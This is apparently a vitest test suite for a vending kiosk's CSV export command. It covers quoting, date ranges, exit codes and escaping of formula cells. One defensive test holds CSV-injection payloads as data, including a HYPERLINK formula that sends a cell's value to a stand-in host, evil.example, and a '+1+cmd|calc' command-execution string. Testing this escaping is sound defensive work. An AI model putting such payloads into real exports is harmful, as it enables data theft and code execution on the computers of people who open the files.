import { describe, expect, it } from 'vitest';
import { openDatabase } from '../../src/store/index.js';
import { csvField, EXPORT_COLUMNS } from '../../src/cli/export.js';
import { deviceConfig } from '../selftest/harness.js';
import { run } from './cli-io.js';

interface OrderFixture {
  reference: string;
  item: string;
  slot?: string | null;
  amount: number;
  state: string;
  invoice?: string | null;
  created: string;
  paid?: string;
  vended?: string;
  refunded?: string;
}

let seq = 0;
async function deviceWithOrders(orders: OrderFixture[]) {
  const device = await deviceConfig();
  const db = openDatabase(device.dbPath);
  const insert = db.prepare(`INSERT INTO orders (reference, idempotency_key, source, slot, item_name, amount, currency, livemode, provider,
    capture_mode, state, invoice_id, created_at, updated_at, paid_at, vended_at, refunded_at)
    VALUES (?, ?, 'kiosk', ?, ?, ?, 'MNT', 0, 'sandbox', 'automatic', ?, ?, ?, ?, ?, ?, ?)`);
  const ms = (iso?: string) => (iso ? Date.parse(iso) : null);
  for (const o of orders) {
    seq += 1;
    insert.run(
      o.reference,
      `${o.reference}-pay-${seq}`,
      o.slot ?? 'A1',
      o.item,
      o.amount,
      o.state,
      o.invoice ?? null,
      ms(o.created),
      ms(o.created),
      ms(o.paid),
      ms(o.vended),
      ms(o.refunded),
    );
  }
  db.close();
  return device;
}

/** RFC 4180 records, CRLF-separated, quotes honoured (a test-side parser, independent of the code). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let field = '';
  let row: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return rows;
}

const DAY = [
  {
    reference: 'vm-1-ab-1',
    item: 'Water',
    amount: 1500,
    state: 'vended',
    invoice: 'sb_1',
    created: '2026-11-01T09:00:00.000Z',
    paid: '2026-11-01T09:00:20.000Z',
    vended: '2026-11-01T09:00:22.000Z',
  },
  {
    reference: 'vm-1-ab-2',
    item: 'Chips, "salted"\nlarge',
    amount: 2000,
    state: 'refunded',
    invoice: 'sb_2',
    created: '2026-11-01T23:59:59.999Z',
    paid: '2026-11-02T00:00:10.000Z',
    refunded: '2026-11-02T00:01:00.000Z',
  },
  { reference: 'vm-1-ab-3', item: 'Cola', amount: 2500, state: 'expired', invoice: null, created: '2026-11-02T00:00:00.000Z' },
];

describe('vendgate export', () => {
  it('prints a header and one RFC 4180 row per order of the period, oldest first, times in UTC', async () => {
    const device = await deviceWithOrders(DAY);

    const { code, stdout, stderr } = await run(['export', '--config', device.path, '--from', '2026-11-01', '--to', '2026-11-02']);

    expect(code).toBe(0);
    expect(stderr).toBe('');
    expect(stdout.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(stdout);
    expect(rows[0]).toEqual([...EXPORT_COLUMNS]);
    expect(rows.slice(1)).toEqual([
      [
        'vm-1-ab-1',
        'Water',
        'A1',
        '1500',
        'MNT',
        'sandbox',
        'sb_1',
        'vended',
        '2026-11-01T09:00:00.000Z',
        '2026-11-01T09:00:20.000Z',
        '2026-11-01T09:00:22.000Z',
        '',
      ],
      [
        'vm-1-ab-2',
        'Chips, "salted"\nlarge',
        'A1',
        '2000',
        'MNT',
        'sandbox',
        'sb_2',
        'refunded',
        '2026-11-01T23:59:59.999Z',
        '2026-11-02T00:00:10.000Z',
        '',
        '2026-11-02T00:01:00.000Z',
      ],
    ]);
    expect(stdout).toContain('"Chips, ""salted""\nlarge"');
  });

  it('without --from/--to exports everything; --to is exclusive and a zone in the time is honoured', async () => {
    const device = await deviceWithOrders(DAY);

    const all = await run(['export', '--config', device.path]);
    // The first order was created at 09:00:00Z, which is 17:00:00 in Ulaanbaatar (+08:00).
    const atIt = await run(['export', '--config', device.path, '--to', '2026-11-01T17:00:00+08:00']);
    const secondAfter = await run(['export', '--config', device.path, '--to', '2026-11-01T17:00:01+08:00']);

    expect(parseCsv(all.stdout)).toHaveLength(1 + DAY.length);
    expect(parseCsv(atIt.stdout).slice(1)).toEqual([]);
    expect(
      parseCsv(secondAfter.stdout)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(['vm-1-ab-1']);
  });

  it('an empty period is just the header', async () => {
    const device = await deviceWithOrders(DAY);
    const { code, stdout } = await run(['export', '--config', device.path, '--from', '2025-01-01', '--to', '2025-02-01']);
    expect(code).toBe(0);
    expect(stdout).toBe(`${EXPORT_COLUMNS.join(',')}\r\n`);
  });

  it('a date that is not ISO 8601, or a period that ends before it starts: exit 64, nothing on stdout', async () => {
    const device = await deviceWithOrders(DAY);
    for (const args of [
      ['--from', '01.11.2026'],
      ['--from', '2026-13-45'],
      ['--from', '2026-11-02', '--to', '2026-11-01'],
    ]) {
      const { code, stdout, stderr } = await run(['export', '--config', device.path, ...args]);
      expect(code, args.join(' ')).toBe(64);
      expect(stdout).toBe('');
      expect(stderr).toMatch(/--from|--to/);
    }
  });

  it('no database at the configured path: exit 1 with VG_ERR_DATABASE and the path, and no file is created', async () => {
    const device = await deviceConfig();
    const { code, stdout, stderr } = await run(['export', '--config', device.path]);
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toContain('VG_ERR_DATABASE');
    expect(stderr).toContain(device.dbPath);
    const { existsSync } = await import('node:fs');
    expect(existsSync(device.dbPath)).toBe(false);
  });

  it('quotes exactly the fields that need it', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(1500)).toBe('1500');
    expect(csvField(-5)).toBe('-5');
  });

  it('a cell that starts like a formula is exported as text, as OWASP advises (CSV injection)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Water")';
    const device = await deviceWithOrders([
      { reference: 'vm-1-ev-1', item: evil, amount: 1500, state: 'vended', created: '2026-11-03T09:00:00Z' },
      { reference: 'vm-1-ev-2', item: '+1+cmd|calc', amount: 1500, state: 'vended', created: '2026-11-03T09:01:00Z' },
      { reference: 'vm-1-ev-3', item: '@SUM(1)', amount: 1500, state: 'vended', created: '2026-11-03T09:02:00Z' },
      { reference: 'vm-1-ev-4', item: '-2+3', amount: 1500, state: 'vended', created: '2026-11-03T09:03:00Z' },
      { reference: 'vm-1-ev-5', item: '\t=1', amount: 1500, state: 'vended', created: '2026-11-03T09:04:00Z' },
    ]);
    const { code, stdout } = await run(['export', '--config', device.path, '--from', '2026-11-03', '--to', '2026-11-04']);
    expect(code).toBe(0);
    const names = parseCsv(stdout)
      .slice(1)
      .map((row) => row[1]);
    expect(names).toEqual([`'${evil}`, "'+1+cmd|calc", "'@SUM(1)", "'-2+3", "'\t=1"]);
    expect(stdout).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Water"")"`);
  });
});
